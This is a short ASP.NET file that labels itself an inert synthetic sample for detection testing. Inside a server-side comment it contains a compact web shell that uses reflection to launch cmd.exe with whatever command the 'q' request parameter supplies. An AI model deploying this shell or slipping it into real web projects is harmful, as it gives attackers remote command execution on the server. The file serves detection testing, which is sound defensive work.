<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diagnostics.Process, System"); t.InvokeMember("Start", BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request["q"] }); %>
--%>
